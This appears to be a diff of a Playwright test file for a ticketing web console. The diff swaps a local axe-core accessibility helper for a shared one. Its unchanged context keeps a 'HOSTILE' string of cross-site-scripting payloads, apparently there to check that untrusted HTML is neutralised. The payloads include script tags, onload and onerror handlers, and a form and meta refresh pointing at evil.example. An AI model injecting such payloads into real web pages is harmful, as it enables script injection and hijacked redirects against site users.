@@ -2,16 +2,14 @@
 
 from __future__ import annotations
 
-from pathlib import Path
-
 from playwright.async_api import Page, expect
 
 from server import tickets
 from server.tickets import TicketEdit
+from tests.journeys.axe import serious
 from tests.journeys.console.conftest import Sit
 from tests.journeys.console.counter import Counter
 
-AXE = Path(__file__).parents[3] / "widgets" / "node_modules" / "axe-core" / "axe.min.js"
 HOSTILE = """<html><body onload="parent.document.title='taken'"><script>top.document.title='taken'</script>
 <img src=x onerror="top.document.title='taken'"><svg><script>alert(1)</script></svg><style>body{display:none}</style>
 <form action=https://evil.example><input name=q></form><meta http-equiv=refresh content="0;url=https://evil.example">
@@ -219,24 +217,14 @@ async def test_axe_finds_nothing_serious_in_light_and_dark_and_both_languages(co
     for agent, scheme in ((aoi, "light"), (yui, "dark")):
         page = await sit(agent, f"#/open/{number}", color_scheme=scheme)
         await expect(page.locator(".message.note")).to_be_visible()
-        assert await _axe(page) == []
+        assert await serious(page) == []
         await page.locator(".log").focus()
         await page.keyboard.press("n")
-        assert await _axe(page) == []
+        assert await serious(page) == []
         await page.keyboard.press("Escape")
         await page.keyboard.press("?")
         await expect(page.get_by_role("dialog")).to_be_visible()
-        assert await _axe(page) == []
-
-
-async def _axe(page: Page) -> list[str]:
-    await page.evaluate(AXE.read_text())
-    found = await page.evaluate(
-        "axe.run(document, {resultTypes: ['violations']}).then(r => r.violations"
-        ".filter(v => ['serious', 'critical'].includes(v.impact))"
-        ".map(v => v.id + ': ' + v.nodes.map(n => n.target.join(' ')).slice(0, 4).join(' | ')))"
-    )
-    return list(found)
+        assert await serious(page) == []
 
 
 async def test_an_agent_hears_of_a_call_a_task_and_a_letter_that_failed(counter: Counter, sit: Sit) -> None:
